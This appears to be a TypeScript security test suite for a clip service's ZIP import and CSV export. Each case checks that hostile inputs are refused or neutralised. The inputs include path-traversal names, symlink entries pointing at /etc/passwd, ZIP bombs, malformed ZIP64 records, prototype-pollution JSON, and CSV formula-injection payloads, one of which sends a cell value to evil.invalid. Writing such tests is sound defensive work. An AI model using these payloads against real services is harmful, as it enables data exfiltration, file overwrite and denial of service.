/** Imports of archives and tables, and the tables that an export writes. */
import { type Case, type Context, must } from '../case.ts';
import { type Answer, ask, brief, hasStatus, refused, upload } from '../http.ts';
import { costsLittle, staysAwake } from '../measure.ts';
import { clipFile, type People } from '../people.ts';
import type { Server } from '../server.ts';
import { unzip, type ZipEntry, zip, zip64Claiming, zip64Pointing, zipEnd } from '../zip.ts';
import { freshPeople, lentPeople, withPeople } from './a-sign-in.ts';

type Peopled = Server & { people: People };

/** Uploads an archive as alice and imports it. @returns the answer that refused it, or that of the import. */
async function importZip({ url, people }: Peopled, bytes: Buffer, more: object = {}): Promise<Answer> {
  const { key } = people.alice;
  const { answer, id } = await upload(url, 'x.zip', bytes, { key });
  if (answer.status !== 204) return answer;
  return ask(url, '/api/import', { method: 'POST', key, body: { uploads: [id], ...more }, timeoutMs: 100_000 });
}

async function refusesZip(server: Peopled, bytes: Buffer, what: string): Promise<void> {
  const answer = refused(await importZip(server, bytes), what);
  must(/archive_refused|input_unreadable|input_too_large|limit_reached/.test(answer.text), `${what}: ${brief(answer)}`);
}

const fox = (more: readonly ZipEntry[], name = 'fox.mp4'): Buffer => zip([{ name, data: clipFile }, ...more]);

/** Imports a clip with a table, exports it, and gives the table of the export. */
async function tableOf(
  server: Peopled,
  sheet: ZipEntry,
  patch: object = {},
): Promise<{ table: string; names: string[] }> {
  const made = hasStatus(await importZip(server, fox([sheet])), 201, 'the import');
  const id = (made.json as { data: { id: string }[] }).data[0]?.id ?? '';
  const { key } = server.people.alice;
  if (Object.keys(patch).length > 0)
    hasStatus(await ask(server.url, `/api/clips/${id}`, { method: 'PATCH', key, body: patch }), 200, 'the change');
  const exported = await ask(server.url, '/api/export', { method: 'POST', key, body: { ids: [id] } });
  const files = unzip(hasStatus(exported, 200, 'the export').bytes);
  const table = [...files].find(([name]) => name.endsWith('metadata.csv'))?.[1].toString();
  must(table !== undefined, `no table in ${[...files.keys()].join(', ')}`);
  return { table, names: [...files.keys()] };
}

/** Cells of the row below the heading, roughly: quotes taken off. */
const cellsOf = (table: string): string[] =>
  [
    ...table
      .split(/\r\n/)
      .slice(1)
      .join('\r\n')
      .matchAll(/"((?:[^"]|"")*)"|([^,\r\n"]+)/g),
  ].map(([, quoted, plain]) => (quoted ?? plain ?? '').replaceAll('""', '"'));

const formulas = ['=HYPERLINK("http://evil.invalid/?x="&A1,"fox")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];

const bounded = (context: Context, server: Peopled, seconds: number, attack: () => Promise<unknown>): Promise<void> =>
  costsLittle(context, server, seconds, () => staysAwake(context, server, attack));

export const archives: readonly Case[] = [
  {
    id: 'E01',
    mode: 'accounts',
    title: 'paths that lead out of a ZIP',
    run: async (context) => {
      const server = await withPeople(context);
      for (const name of [
        '../fox.mp4',
        '/etc/fox.mp4',
        'C:/fox.mp4',
        '..\\fox.mp4',
        'a/../../fox.mp4',
        'a/./../../fox.mp4',
        '\\\\host\\share\\fox.mp4',
        'fox\0.mp4',
      ])
        await refusesZip(server, zip([{ name, data: clipFile }]), name);
    },
  },
  {
    id: 'E02',
    mode: 'accounts',
    title: 'links and devices in a ZIP',
    run: async (context) => {
      const server = await withPeople(context);
      for (const mode of [0o120777, 0o020666, 0o060666, 0o010644])
        await refusesZip(server, fox([{ name: 'link.mp4', data: '/etc/passwd', mode }]), mode.toString(8));
    },
  },
  {
    id: 'E03',
    mode: 'accounts',
    title: 'ZIP bombs: 300 MB of zeros, text at 686:1, lying sizes, nested',
    run: async (context) => {
      const server = await lentPeople(context);
      const zeros = zip([{ name: 'fox.mp4', data: Buffer.alloc(300_000_000), deflate: true }]);
      await bounded(context, server, 20, async () => {
        await refusesZip(server, zeros, 'zeros');
        await refusesZip(
          server,
          fox([{ name: 'fox.txt', data: Buffer.alloc(20_000_000, 32), deflate: true }]),
          'text at 1000:1',
        );
        await refusesZip(
          server,
          fox([{ name: 'fox.json', data: Buffer.alloc(70_000_000, 32), deflate: true, claims: 60_000 }]),
          'a size that lies',
        );
        refused(await importZip(server, zip([{ name: 'inner.zip', data: zeros }])), 'nested');
      });
    },
  },
  {
    id: 'E03.1',
    mode: 'accounts',
    title: 'a ZIP of 100,000 entries, one whose entries overlap, one of 60,000 folders',
    run: async (context) => {
      const server = await lentPeople(context);
      const many = zip(Array.from({ length: 65_000 }, (_, index) => ({ name: `${index}.txt`, data: 'x' })));
      const folders = zip(Array.from({ length: 60_000 }, (_, index) => ({ name: `${index}/`, data: '' })));
      const base = zip([{ name: 'a.mp4', data: Buffer.alloc(200_000), deflate: true }]);
      const directory = base.subarray(base.indexOf('PK\x01\x02', 0, 'latin1'), base.length - 22);
      const overlapping = Buffer.concat([
        base.subarray(0, base.length - 22 - directory.length),
        ...Array.from({ length: 20_000 }, () => directory),
        zipEnd(20_000, directory.length * 20_000, base.length - 22 - directory.length),
      ]);
      await bounded(context, server, 25, async () => {
        for (const [what, bytes] of [
          ['many', many],
          ['folders', folders],
          ['overlapping', overlapping],
        ] as const)
          refused(await importZip(server, bytes), what);
      });
    },
  },
  {
    id: 'E04',
    mode: 'accounts',
    title: 'ZIP just under the ratio limit: 100 sheets of 0.99 MB',
    run: async (context) => {
      const server = await lentPeople(context);
      const sheets = Array.from({ length: 100 }, (_, index) => ({
        name: `${index}.csv`,
        data: Buffer.alloc(990_000, 97),
        deflate: true,
      }));
      await bounded(context, server, 20, async () => {
        const answer = await importZip(server, fox(sheets));
        must(answer.status < 500, brief(answer));
      });
    },
  },
  {
    id: 'E05',
    mode: 'accounts',
    title: 'a prompt of 12 million letters from a .txt',
    run: async (context) => {
      const server = await freshPeople(context);
      const answer = await importZip(server, fox([{ name: 'fox.txt', data: 'QUJD'.repeat(3_000_000) }]));
      const list = await ask(server.url, '/api/clips?limit=10', { key: server.people.alice.key });
      context.note('list of clips', `${Math.round(list.bytes.length / 1000)} kB`);
      must(answer.status >= 400 || list.bytes.length < 200_000, `taken: the list has ${list.bytes.length} bytes`);
      must(answer.bytes.length < 200_000, `the answer has ${answer.bytes.length} bytes`);
    },
  },
  {
    id: 'E05.1',
    mode: 'accounts',
    title: 'long titles, tags, models and prompts from CSV, JSON and facts',
    run: async (context) => {
      const server = await freshPeople(context);
      const long = 'x'.repeat(3_000_000);
      const sheets: ZipEntry[] = [
        { name: 'metadata.csv', data: `file_name,prompt,title,model\nfox.mp4,"${long}","${long}","${long}"\n` },
        {
          name: 'fox.json',
          data: JSON.stringify({
            prompt: long,
            title: long,
            model: long,
            tags: Array.from({ length: 100_000 }, (_, i) => `t${i}`),
          }),
        },
        { name: 'fox.json', data: JSON.stringify({ prompt: 'x', tags: [long] }) },
        {
          name: 'fox.json',
          data: JSON.stringify({ facts: { prompt: long, model: long, scene: { x: long }, request: { prompt: long } } }),
        },
      ];
      for (const sheet of sheets) {
        const answer = await importZip(server, fox([sheet]));
        must(
          answer.status < 500 && answer.bytes.length < 200_000,
          `${sheet.name}: ${brief(answer)} (${answer.bytes.length} bytes)`,
        );
      }
      const list = await ask(server.url, '/api/clips?limit=10', { key: server.people.alice.key });
      must(list.bytes.length < 400_000, `the list has ${list.bytes.length} bytes`);
    },
  },
  {
    id: 'E05.2',
    mode: 'accounts',
    title:
      'notes of an import are text: no control or bidi characters come through as they stand, no id or owner is taken over',
    run: async (context) => {
      const server = await lentPeople(context);
      const { alice, bob, things } = server.people;
      const data = JSON.stringify({
        id: things.clip,
        owner: 'local',
        visibility: 'public',
        shareToken: 'x',
        prompt: 'a fox',
        title: 'x\u0000y',
        favourite: true,
      });
      const answer = await importZip(server, fox([{ name: 'fox.json', data }]));
      must(answer.status < 500, brief(answer));
      if (answer.status === 201)
        must(
          /"visibility":"private"/.test(answer.text) && !answer.text.includes(`"id":"${things.clip}"`),
          `taken over: ${brief(answer)}`,
        );
      hasStatus(await ask(server.url, `/api/clips/${things.clip}`, { key: alice.key }), 200, "alice's clip");
      refused(await ask(server.url, `/api/clips/${things.clip}`, { key: bob.key }), 'bob');
    },
  },
  {
    id: 'E07',
    mode: 'accounts',
    title: 'CSV: unterminated quote, a cell of 5 MB, a million columns, a million rows',
    run: async (context) => {
      const server = await lentPeople(context);
      await bounded(context, server, 20, async () => {
        for (const data of [
          'file_name,prompt\nfox.mp4,"never ends',
          `file_name,prompt\nfox.mp4,"${'x'.repeat(5_000_000)}"\n`,
          `${'a,'.repeat(1_000_000)}\n`,
          `file_name,prompt\n${'y.mp4,x\n'.repeat(1_000_000)}`,
          `file_name,prompt\n${'"'.repeat(1_000_000)}`,
        ]) {
          const answer = await importZip(server, fox([{ name: 'metadata.csv', data, deflate: false }]));
          must(answer.status < 500, brief(answer));
        }
      });
    },
  },
  {
    id: 'E08',
    mode: 'accounts',
    title: 'JSON sheets: __proto__, 300,000 levels, lines without end',
    run: async (context) => {
      const server = await lentPeople(context);
      await bounded(context, server, 20, async () => {
        for (const data of [
          '{"__proto__":{"prompt":"x"},"fox.mp4":{"__proto__":{"title":"x"}}}',
          '['.repeat(300_000) + ']'.repeat(300_000),
          `{"fox.mp4":${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}}`,
          `[${'{"file":"fox.mp4"},'.repeat(300_000)}{}]`,
        ]) {
          const answer = await importZip(server, fox([{ name: 'x.json', data }]));
          must(answer.status < 500, brief(answer));
        }
      });
    },
  },
  {
    id: 'E09',
    mode: 'accounts',
    title: 'names that make patterns run long',
    run: async (context) => {
      const server = await lentPeople(context);
      await bounded(context, server, 10, async () => {
        for (const name of [
          `${'_'.repeat(1000)}x`,
          `fox${'.mp4'.repeat(250)}`,
          `${'a '.repeat(400)}!.mp4`,
          `${'.'.repeat(900)}mp4`,
          `${'0'.repeat(900)}.mp4`,
        ]) {
          const answer = await importZip(server, zip([{ name, data: clipFile }]));
          must(answer.status < 500, brief(answer));
        }
      });
    },
  },
  {
    id: 'E10',
    mode: 'accounts',
    title: 'ZIP64 locator that points nowhere',
    run: async (context) => {
      const server = await withPeople(context);
      for (const offset of [2n ** 64n - 1n, 2n ** 53n, 2n ** 63n, 1n << 40n, 90n])
        await refusesZip(server, zip64Pointing(offset), String(offset));
    },
  },
  {
    id: 'E10.1',
    mode: 'accounts',
    title: 'ZIP64 records that claim 2⁶⁴ entries, sizes and offsets',
    run: async (context) => {
      const server = await withPeople(context);
      for (const [count, size, offset] of [
        [2n ** 64n - 1n, 0n, 0n],
        [1n, 2n ** 64n - 1n, 0n],
        [1n, 46n, 2n ** 64n - 1n],
        [2n ** 53n, 2n ** 53n, 2n ** 53n],
        [1n, 0n, 0n],
      ] as const)
        await refusesZip(server, zip64Claiming(count, size, offset), `${count} ${size} ${offset}`);
    },
  },
  {
    id: 'E10.2',
    mode: 'accounts',
    title: 'end records that lie: offsets beyond the file, counts, comments, cut off at every place',
    run: async (context) => {
      const server = await lentPeople(context);
      const whole = fox([]);
      const end = whole.length - 22;
      const bodies: Buffer[] = [
        Buffer.concat([whole.subarray(0, end), zipEnd(1, 100, 0xfffffff0)]),
        Buffer.concat([whole.subarray(0, end), zipEnd(60_000, 100, 0)]),
        Buffer.concat([whole.subarray(0, end), zipEnd(1, 0xfffffff0, 0)]),
        ...Array.from({ length: 8 }, (_, index) => whole.subarray(0, whole.length - 3 - index * 9)),
        Buffer.from('PK\x03\x04', 'latin1'),
        Buffer.from('PK\x05\x06', 'latin1'),
      ];
      for (const [index, bytes] of bodies.entries()) {
        const answer = await importZip(server, bytes);
        must(answer.status >= 400 && answer.status < 500, `archive ${index}: ${brief(answer)}`);
      }
    },
  },
  {
    id: 'E11',
    mode: 'accounts',
    title: 'formulas as prompts in the exported table',
    run: async (context) => {
      const server = await lentPeople(context);
      for (const prompt of formulas) {
        const { table } = await tableOf(server, { name: 'fox.json', data: JSON.stringify({ prompt }) });
        const bad = cellsOf(table).filter((cell) => /^[=+\-@\t\r]/.test(cell));
        must(bad.length === 0, `a cell begins with ${JSON.stringify(bad[0])}`);
      }
    },
  },
  {
    id: 'E11.1',
    mode: 'accounts',
    title: 'formulas as titles, tags, models and file names',
    run: async (context) => {
      const server = await lentPeople(context);
      for (const formula of formulas.slice(0, 4)) {
        const sheet = {
          name: 'fox.json',
          data: JSON.stringify({ prompt: 'x', title: formula, tags: [formula.slice(0, 40)], model: formula }),
        };
        const { table, names } = await tableOf(server, sheet, { title: formula, tags: [formula.slice(0, 40)] });
        const bad = cellsOf(table).filter((cell) => /^[=+\-@\t\r]/.test(cell));
        must(bad.length === 0, `a cell begins with ${JSON.stringify(bad[0])}`);
        must(!names.some((name) => /(?:^|\/)[=+@]/.test(name)), `names: ${names.join(', ')}`);
      }
    },
  },
  {
    id: 'E11.2',
    mode: 'accounts',
    title: 'names of files in an export stay inside: titles with slashes, dots, NUL, device names',
    run: async (context) => {
      const server = await lentPeople(context);
      for (const title of ['../../etc/passwd', '..', '/', 'C:\\x', 'CON', 'a\u202egpj.exe', '....//', '-rf']) {
        const { names } = await tableOf(
          server,
          { name: 'fox.json', data: JSON.stringify({ prompt: title, title }) },
          { title },
        );
        for (const name of names)
          must(
            !/(?:^|\/)\.\.?(?:\/|$)|^\/|\\|\0|^[A-Z]:|\u202e/.test(name),
            `${JSON.stringify(title)} became ${JSON.stringify(name)}`,
          );
      }
    },
  },
];
